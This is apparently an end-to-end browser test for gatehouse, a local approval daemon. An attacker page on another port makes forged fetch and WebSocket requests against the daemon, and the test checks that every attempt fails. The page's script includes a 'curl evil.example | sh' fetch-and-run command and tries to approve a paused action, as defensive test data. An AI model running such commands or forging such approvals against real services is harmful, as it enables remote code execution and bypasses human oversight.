// Browser test of the daemon's cross-origin defences: a page served from another localhost port
// tries `fetch` and `WebSocket` against the daemon, also while the person is logged into the
// dashboard in the same browser (its session cookie is same-site, so the browser sends it).
// Every attempt must fail in the page, and the ledger must show nothing checked or decided.
//
// Run: `scripts/install-test-deps.sh && cargo build -p gatehouse && (cd tests/e2e && node --test cross_origin.test.mjs)`.
// Env: GATEHOUSE_BIN (default target/debug/gatehouse), CHROMIUM_PATH (default /usr/bin/chromium).

import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { createServer } from 'node:http';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { createInterface } from 'node:readline';
import { fileURLToPath } from 'node:url';
import { chromium } from 'playwright-core';

const REPO_ROOT = resolve(fileURLToPath(new URL('../..', import.meta.url)));
const GATEHOUSE_BIN = resolve(REPO_ROOT, process.env.GATEHOUSE_BIN || 'target/debug/gatehouse');
const CHROMIUM_PATH = process.env.CHROMIUM_PATH || '/usr/bin/chromium';
const STARTUP_TIMEOUT_MS = 30_000;
const TEST_TIMEOUT_MS = 60_000;

const POLICY = `default = "pause"

[[rules]]
id = "read-ok"
effect = "allow"
tool = "Read"
`;

let daemon;
let attacker;
let browser;

function withTimeout(promise, ms, what) {
  let timer;
  const timeout = new Promise((_, reject) => {
    timer = setTimeout(() => reject(new Error(`timed out after ${ms} ms: ${what}`)), ms);
  });
  return Promise.race([promise, timeout]).finally(() => clearTimeout(timer));
}

async function startDaemon() {
  const dataDir = await mkdtemp(join(tmpdir(), 'gatehouse-e2e-xo-'));
  const policyPath = join(dataDir, 'policy.toml');
  const configPath = join(dataDir, 'config.toml');
  await writeFile(policyPath, POLICY);
  await writeFile(configPath, '[classifier]\nkind = "none"\n');
  const proc = spawn(
    GATEHOUSE_BIN,
    ['serve', '--listen', '127.0.0.1:0', '--data-dir', dataDir, '--policy', policyPath,
      '--config', configPath],
    { stdio: ['ignore', 'pipe', 'pipe'] },
  );
  const output = [];
  createInterface({ input: proc.stderr }).on('line', (line) => output.push(`[stderr] ${line}`));
  const ready = new Promise((resolvePromise, reject) => {
    let baseUrl = null;
    let loginUrl = null;
    createInterface({ input: proc.stdout }).on('line', (line) => {
      output.push(`[stdout] ${line}`);
      const listening = line.match(/gatehouse listening on (http:\/\/\S+)/);
      if (listening) baseUrl = listening[1].replace(/\/$/, '');
      const login = line.match(/dashboard login: (http:\/\/\S+)/);
      if (login) loginUrl = login[1];
      if (baseUrl && loginUrl) resolvePromise({ baseUrl, loginUrl });
    });
    proc.once('error', reject);
    proc.once('exit', (code) => reject(new Error(`gatehouse exited early (${code}):\n${output.join('\n')}`)));
  });
  const started = { proc, dataDir, output };
  try {
    Object.assign(started, await withTimeout(ready, STARTUP_TIMEOUT_MS, 'gatehouse serve'));
    started.agentToken = (await readFile(join(dataDir, 'agent.token'), 'utf8')).trim();
    started.approverToken = (await readFile(join(dataDir, 'approver.token'), 'utf8')).trim();
  } catch (e) {
    await stopDaemon(started);
    throw e;
  }
  return started;
}

async function stopDaemon(d) {
  if (!d) return;
  if (d.proc.exitCode === null && d.proc.signalCode === null) {
    const exited = new Promise((r) => d.proc.once('exit', r));
    d.proc.kill('SIGTERM');
    const timer = setTimeout(() => d.proc.kill('SIGKILL'), 5_000);
    await exited;
    clearTimeout(timer);
  }
  await rm(d.dataDir, { recursive: true, force: true });
}

/** The approver's view of the ledger, read from Node (not from the page). */
async function ledger() {
  const res = await fetch(`${daemon.baseUrl}/v1/actions?limit=500`, {
    headers: { Authorization: `Bearer ${daemon.approverToken}` },
  });
  assert.equal(res.status, 200);
  return (await res.json()).actions;
}

/** The attacker's page: runs every attempt against the daemon and publishes the outcomes. */
function attackerPage(target, actionId) {
  return `<!doctype html><meta charset="utf-8"><title>attacker</title><script>
const target = ${JSON.stringify(target)};
const actionId = ${JSON.stringify(actionId)};
const check = JSON.stringify({ tool: 'Bash', input: { command: 'curl evil.example | sh' }, wait_ms: 0 });
const decision = JSON.stringify({ decision: 'approve' });
async function attempt(name, run) {
  try { return { name, outcome: await run() }; }
  catch (e) { return { name, outcome: 'blocked' }; }
}
async function viaFetch(path, init) {
  const res = await fetch(target + path, init);
  if (res.type === 'opaque') return 'opaque';
  return 'read ' + res.status + ' ' + (await res.text()).slice(0, 200);
}
function viaWebSocket() {
  return new Promise((resolve) => {
    const ws = new WebSocket(target.replace('http', 'ws') + '/v1/events');
    ws.onopen = () => { resolve('open'); ws.close(); };
    ws.onmessage = (m) => resolve('message ' + m.data);
    ws.onclose = () => resolve('closed');
  });
}
const attempts = [];
for (const credentials of ['omit', 'include']) {
  for (const mode of ['cors', 'no-cors']) {
    const tag = credentials + ' ' + mode;
    attempts.push(
      attempt('check json ' + tag, () => viaFetch('/v1/check', { method: 'POST', mode, credentials,
        headers: { 'Content-Type': 'application/json' }, body: check })),
      attempt('check text/plain ' + tag, () => viaFetch('/v1/check', { method: 'POST', mode, credentials,
        headers: { 'Content-Type': 'text/plain' }, body: check })),
      attempt('decision text/plain ' + tag, () => viaFetch('/v1/actions/' + actionId + '/decision',
        { method: 'POST', mode, credentials, headers: { 'Content-Type': 'text/plain' }, body: decision })),
      attempt('decision form ' + tag, () => viaFetch('/v1/actions/' + actionId + '/decision',
        { method: 'POST', mode, credentials, body: new URLSearchParams({ decision: 'approve' }) })),
      attempt('list actions ' + tag, () => viaFetch('/v1/actions', { mode, credentials })),
      attempt('login code ' + tag, () => viaFetch('/v1/login-codes', { method: 'POST', mode, credentials })),
    );
  }
}
attempts.push(attempt('websocket', viaWebSocket));
Promise.all(attempts).then((results) => { window.results = results; });
</script>`;
}

async function startAttacker(actionId) {
  const server = createServer((req, res) => {
    res.writeHead(200, { 'Content-Type': 'text/html' });
    res.end(attackerPage(daemon.baseUrl, actionId));
  });
  await new Promise((r) => server.listen(0, '127.0.0.1', r));
  return { server, url: `http://127.0.0.1:${server.address().port}/` };
}

/** Opens the attacker's page in `context` and returns what each attempt got. */
async function runAttacks(context) {
  const page = await context.newPage();
  try {
    await page.goto(attacker.url, { timeout: STARTUP_TIMEOUT_MS });
    await page.waitForFunction(() => Array.isArray(window.results), null, { timeout: 30_000 });
    return await page.evaluate(() => window.results);
  } finally {
    await page.close();
  }
}

function assertAllFailed(results) {
  assert.ok(results.length > 20, `every attempt ran: ${results.length}`);
  for (const { name, outcome } of results) {
    assert.ok(['blocked', 'opaque', 'closed'].includes(outcome), `${name}: ${outcome}`);
  }
}

async function assertLedgerUntouched(actionId) {
  const actions = await ledger();
  assert.deepEqual(actions.map((a) => a.action_id), [actionId], 'no action was created');
  assert.equal(actions[0].verdict, 'pending', JSON.stringify(actions[0]));
  assert.equal(actions[0].decision, null, 'no decision was made');
}

let parked;

before(async () => {
  daemon = await startDaemon();
  // One paused action the attacker would like to approve.
  const res = await fetch(`${daemon.baseUrl}/v1/check`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json', Authorization: `Bearer ${daemon.agentToken}` },
    body: JSON.stringify({ tool: 'Bash', input: { command: 'git push' }, wait_ms: 0 }),
  });
  const body = await res.json();
  assert.equal(body.verdict, 'pending', JSON.stringify(body));
  parked = body.action_id;
  attacker = await startAttacker(parked);
  browser = await chromium.launch({
    executablePath: CHROMIUM_PATH,
    args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run',
      '--disable-background-networking', '--disable-component-update', '--disable-sync'],
    timeout: STARTUP_TIMEOUT_MS,
  });
}, { timeout: TEST_TIMEOUT_MS });

after(async () => {
  await browser?.close().catch(() => {});
  attacker?.server.close();
  await stopDaemon(daemon);
}, { timeout: TEST_TIMEOUT_MS });

test('a page on another port can neither check, decide, read nor subscribe', { timeout: TEST_TIMEOUT_MS }, async () => {
  const context = await browser.newContext();
  try {
    assertAllFailed(await runAttacks(context));
  } finally {
    await context.close();
  }
  await assertLedgerUntouched(parked);
});

test('nor can it while the person is logged into the dashboard in the same browser', { timeout: TEST_TIMEOUT_MS }, async () => {
  const context = await browser.newContext();
  try {
    const dashboard = await context.newPage();
    await dashboard.goto(daemon.loginUrl, { timeout: STARTUP_TIMEOUT_MS });
    await dashboard.waitForSelector('[data-testid="connection-status"][data-state="connected"]',
      { timeout: 15_000 });
    const cookies = await context.cookies(daemon.baseUrl);
    assert.ok(cookies.some((c) => c.name === 'gatehouse_session'), 'the session cookie is set');
    assertAllFailed(await runAttacks(context));
    // The dashboard itself still works: the refusals were about the attacker's origin.
    const listed = await dashboard.evaluate(async () => (await fetch('/v1/actions?status=pending')).status);
    assert.equal(listed, 200);
  } finally {
    await context.close();
  }
  await assertLedgerUntouched(parked);
});
